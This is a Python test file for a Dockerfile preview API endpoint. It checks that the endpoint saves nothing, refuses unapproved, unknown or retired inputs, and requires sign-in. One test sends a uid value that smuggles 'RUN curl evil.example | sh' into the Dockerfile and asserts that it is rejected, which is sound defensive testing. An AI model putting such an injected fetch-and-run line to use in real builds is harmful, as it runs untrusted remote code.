"""The builder's preview in the API: a pipeline composes a base and components to see the Dockerfile
(and the warnings a recipe of them gets) before saving anything; what does not compose is refused
with the same field errors as creating the recipe, and nothing a caller sends reaches the Dockerfile
unchecked."""
import pytest
from rest_framework.test import APIClient

from builds.compose.snapshot import base_reference
from builds.models import Recipe
from catalog.models import BaseImage
from curation.lifecycle import base_transition
from portal.models import GlobalRole
from tests.builds.recipes.test_deprecation_warnings import BASE_WARNING, deprecated  # noqa: F401  (fixture)
from tests.builds.test_api import api_for
from tests.factories import UserFactory, with_role

pytestmark = pytest.mark.django_db


def preview(user, body):
    return api_for(user).post("/api/recipes/preview/", body, format="json")


def test_it_shows_the_dockerfile_a_recipe_would_build_and_saves_nothing(member, busybox, runtime_user):
    response = preview(member, {"base": "busybox", "components": [{"component": "runtime-user", "values": {"uid": "10002"}}]})
    assert response.status_code == 200, response.content
    body = response.json()
    assert f"\nFROM {base_reference(busybox)}\n" in body["dockerfile"], body["dockerfile"]
    assert "USER 10002" in body["dockerfile"] and body["order"] == ["runtime-user"] and body["warnings"] == []
    assert Recipe.objects.count() == 0


def test_it_refuses_what_would_not_compose_with_the_fields_named(member, busybox, runtime_user):
    hostile = preview(member, {"base": "busybox", "components": [
        {"component": "runtime-user", "values": {"uid": "10001\nRUN curl evil.example | sh"}}]})
    assert hostile.status_code == 400 and "runtime-user.uid" in hostile.json()["errors"]
    assert preview(member, {"base": "debian-99"}).json() == {"base": "Not an approved base image."}
    unknown = preview(member, {"base": "busybox", "components": [{"component": "netcat"}]})
    assert unknown.status_code == 400 and "Unknown component netcat" in unknown.json()["components"]
    missing = preview(member, {"base": "busybox", "components": [{"component": "runtime-user", "version": "7"}]})
    assert missing.status_code == 400 and "has no version 7" in missing.json()["components"]


def test_it_warns_of_a_deprecated_base_and_refuses_a_retired_one(member, busybox, runtime_user, deprecated):  # noqa: F811
    body = {"base": "busybox", "components": [{"component": "runtime-user", "version": "2"}]}
    warned = preview(member, body)
    assert warned.status_code == 200 and [w["message"].startswith(BASE_WARNING) for w in warned.json()["warnings"]] == [True]
    admin = with_role(UserFactory(username="ops"), GlobalRole.Kind.PLATFORM_ADMIN)
    base_transition(user=admin, base=BaseImage.objects.get(slug="busybox"), to="retired")
    retired = preview(member, body)
    assert retired.status_code == 400 and "is retired and can no longer be built" in retired.json()["detail"]


def test_it_needs_a_signed_in_caller():
    assert APIClient().post("/api/recipes/preview/", {"base": "busybox"}, format="json").status_code == 401
